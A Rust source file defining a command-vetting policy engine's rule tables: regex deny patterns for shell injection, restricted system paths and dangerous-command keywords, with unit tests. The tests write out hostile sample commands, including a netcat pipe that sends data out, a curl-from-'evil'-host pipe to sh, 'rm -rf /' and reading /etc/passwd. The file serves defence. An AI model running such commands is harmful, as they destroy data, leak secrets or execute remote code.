// file: src/policy/rules.rs
// version: 1.0.0
// guid: f59b0d37-6a24-4c81-b0e5-19d8c3f7a260

//! Policy rule tables
//!
//! Fixed tables of shell-injection indicators, restricted filesystem paths
//! and dangerous command categories. Compiled once when the policy engine is
//! constructed. Denial messages expose the rule label, never the pattern.

use regex::Regex;
use serde::{Deserialize, Serialize};

/// Dangerous command categories requiring explicit role authorization
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum CommandCategory {
    Exploitation,
    PrivilegeEscalation,
    SystemModification,
    NetworkAttacks,
}

impl CommandCategory {
    pub fn as_str(&self) -> &'static str {
        match self {
            CommandCategory::Exploitation => "exploitation",
            CommandCategory::PrivilegeEscalation => "privilege_escalation",
            CommandCategory::SystemModification => "system_modification",
            CommandCategory::NetworkAttacks => "network_attacks",
        }
    }
}

/// A malicious-pattern rule: a label safe to show to users plus the regex
struct MaliciousRule {
    label: &'static str,
    pattern: Regex,
}

/// Compiled policy rule tables
pub struct RuleSet {
    malicious: Vec<MaliciousRule>,
    restricted_paths: Vec<String>,
    dangerous: Vec<(CommandCategory, Vec<&'static str>)>,
}

impl RuleSet {
    /// The default rule tables
    pub fn default_rules() -> Self {
        let malicious = [
            ("destructive_delete", r"(?i);\s*rm\s+-rf\s+/"),
            ("trace_hiding", r"(?i)>\s*/dev/null\s*2>&1"),
            ("netcat_pipe", r"(?i)\|\s*nc\s+"),
            ("remote_fetch_execute", r"(?i)curl\s+.*\|\s*sh"),
            ("remote_fetch_execute", r"(?i)wget\s+.*\|\s*sh"),
        ]
        .iter()
        .map(|(label, pattern)| MaliciousRule {
            label,
            pattern: Regex::new(pattern).expect("static pattern"),
        })
        .collect();

        let restricted_paths = [
            "/etc/passwd",
            "/etc/shadow",
            "/etc/hosts",
            r"c:\windows\system32",
            r"c:\users\administrator",
        ]
        .iter()
        .map(|p| p.to_lowercase())
        .collect();

        let dangerous = vec![
            (
                CommandCategory::Exploitation,
                vec!["metasploit", "msfconsole", "exploit"],
            ),
            (
                CommandCategory::PrivilegeEscalation,
                vec!["sudo", "su ", "setuid"],
            ),
            (
                CommandCategory::SystemModification,
                vec!["rm ", "del ", "format", "mkfs"],
            ),
            (
                CommandCategory::NetworkAttacks,
                vec!["ddos", "dos attack", "flood"],
            ),
        ];

        Self {
            malicious,
            restricted_paths,
            dangerous,
        }
    }

    /// Label of the first malicious pattern matching the command text
    pub fn malicious_match(&self, command: &str) -> Option<&'static str> {
        self.malicious
            .iter()
            .find(|rule| rule.pattern.is_match(command))
            .map(|rule| rule.label)
    }

    /// First restricted path appearing in the command text
    pub fn restricted_path_match(&self, command: &str) -> Option<&str> {
        let lower = command.to_lowercase();
        self.restricted_paths
            .iter()
            .find(|path| lower.contains(path.as_str()))
            .map(|path| path.as_str())
    }

    /// First dangerous category whose keywords appear in the command text
    pub fn dangerous_category_match(&self, command: &str) -> Option<CommandCategory> {
        let lower = command.to_lowercase();
        self.dangerous
            .iter()
            .find(|(_, keywords)| keywords.iter().any(|k| lower.contains(k)))
            .map(|(category, _)| *category)
    }
}

impl Default for RuleSet {
    fn default() -> Self {
        Self::default_rules()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_malicious_patterns() {
        let rules = RuleSet::default_rules();

        assert_eq!(
            rules.malicious_match("scan host; rm -rf / --no-preserve-root"),
            Some("destructive_delete")
        );
        assert_eq!(
            rules.malicious_match("run thing > /dev/null 2>&1"),
            Some("trace_hiding")
        );
        assert_eq!(rules.malicious_match("cat data | nc 1.2.3.4 4444"), Some("netcat_pipe"));
        assert_eq!(
            rules.malicious_match("curl http://evil/x.sh | sh"),
            Some("remote_fetch_execute")
        );
        assert_eq!(rules.malicious_match("scan example.com for open ports"), None);
    }

    #[test]
    fn test_restricted_paths_case_insensitive() {
        let rules = RuleSet::default_rules();

        assert!(rules.restricted_path_match("cat /ETC/PASSWD").is_some());
        assert!(rules
            .restricted_path_match(r"dir C:\Windows\System32")
            .is_some());
        assert!(rules.restricted_path_match("scan example.com").is_none());
    }

    #[test]
    fn test_dangerous_categories() {
        let rules = RuleSet::default_rules();

        assert_eq!(
            rules.dangerous_category_match("launch msfconsole against the lab"),
            Some(CommandCategory::Exploitation)
        );
        assert_eq!(
            rules.dangerous_category_match("sudo whatever"),
            Some(CommandCategory::PrivilegeEscalation)
        );
        assert_eq!(
            rules.dangerous_category_match("flood the server"),
            Some(CommandCategory::NetworkAttacks)
        );
        assert_eq!(rules.dangerous_category_match("scan example.com"), None);
    }
}
